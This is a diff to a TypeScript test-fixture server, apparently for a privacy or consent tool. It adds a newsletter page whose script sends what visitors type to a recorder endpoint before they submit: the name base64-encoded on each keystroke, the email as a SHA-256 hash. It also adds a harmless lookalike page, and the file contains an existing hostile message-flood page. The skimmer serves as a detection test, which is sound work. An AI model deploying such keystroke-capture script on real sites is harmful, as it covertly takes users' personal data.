@@ -62,6 +62,8 @@ export interface Fixtures {
   siteRequests(): number;
   /** The choices clicked on the generic page ('reject', 'accept'), in order. */
   choices(): string[];
+  /** Forms submitted to the site (`/input/submit`). */
+  submissions(): number;
   /** Bytes the huge page wrote before the client went away. */
   hugeBytesWritten(): number;
   close(): Promise<void>;
@@ -311,6 +313,52 @@ function lookalikePage(trackers: { google: string; yandex: string; facebook: str
   );
 }
 
+/**
+ * A newsletter form whose recorder sends what is typed before any submit: the name field base64
+ * on each key, the email as the SHA-256 of its lower-cased trimmed form when the field is left.
+ * A hidden field must not be typed into.
+ */
+function inputCapturePage(recorder: string) {
+  return html(
+    `<main><h1>Bülten</h1>
+<form id="newsletter" action="/input/submit" method="post">
+  <input type="text" name="ad" placeholder="Adınız"> <input type="email" name="eposta" placeholder="E-posta">
+  <input type="text" name="gizli" style="display:none"> <button>Abone ol</button>
+</form></main>
+<script>
+  const send = (body) => fetch('${recorder}/capture', { method: 'POST', mode: 'no-cors', body });
+  document.querySelector('[name=ad]').addEventListener('input', (event) => {
+    send(JSON.stringify({ field: 'ad', value: btoa(event.target.value) }));
+  });
+  document.querySelector('[name=eposta]').addEventListener('change', async (event) => {
+    const bytes = new TextEncoder().encode(event.target.value.trim().toLowerCase());
+    const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
+    send('em=' + Array.from(digest, (b) => b.toString(16).padStart(2, '0')).join(''));
+  });
+</script>`,
+  );
+}
+
+/**
+ * What looks like it and is not: the same kind of form, whose values leave only on submit (to the
+ * site itself), while typing sends only which field was used and how long its value is.
+ */
+function inputLookalikePage(recorder: string) {
+  return html(
+    `<main><h1>Bülten</h1>
+<form id="newsletter"><input type="text" name="ad"> <input type="email" name="eposta"> <button>Abone ol</button></form></main>
+<script>
+  for (const input of document.querySelectorAll('input')) {
+    input.addEventListener('input', () => navigator.sendBeacon('${recorder}/events', JSON.stringify({ field: input.name, length: input.value.length })));
+  }
+  document.getElementById('newsletter').addEventListener('submit', (event) => {
+    event.preventDefault();
+    fetch('/input/submit', { method: 'POST', body: new FormData(event.target) });
+  });
+</script>`,
+  );
+}
+
 /** A hostile page: it calls autoconsent's binding `inits` times with `init` from every frame. */
 function initFloodPage(inits: number) {
   const flood = `for (let i = 0; i < ${inits}; i += 1) window.autoconsentSendMessage?.({ type: 'init', url: location.href });`;
@@ -348,6 +396,7 @@ export async function startFixtures(): Promise<Fixtures> {
   let canaryConnections = 0;
   let hugeBytes = 0;
   let siteRequests = 0;
+  let submissions = 0;
   const choices: string[] = [];
   const canaryServer = http.createServer((_, response) => response.end('canary'));
   canaryServer.on('connection', () => {
@@ -396,6 +445,12 @@ export async function startFixtures(): Promise<Fixtures> {
       return response.end(fingerprintScript);
     }
     if (url.pathname === '/lookalike/') return send(lookalikePage(trackers));
+    if (url.pathname === '/input-capture/') return send(inputCapturePage(trackers.recorder));
+    if (url.pathname === '/input-lookalike/') return send(inputLookalikePage(trackers.recorder));
+    if (url.pathname === '/input/submit') {
+      submissions += 1;
+      return send('ok');
+    }
     if (url.pathname === '/choice') {
       choices.push(url.searchParams.get('value') ?? '');
       return send('ok');
@@ -464,6 +519,7 @@ export async function startFixtures(): Promise<Fixtures> {
     canaryConnections: () => canaryConnections,
     siteRequests: () => siteRequests,
     choices: () => [...choices],
+    submissions: () => submissions,
     hugeBytesWritten: () => hugeBytes,
     close: async () => {
       for (const server of servers) server.closeAllConnections();
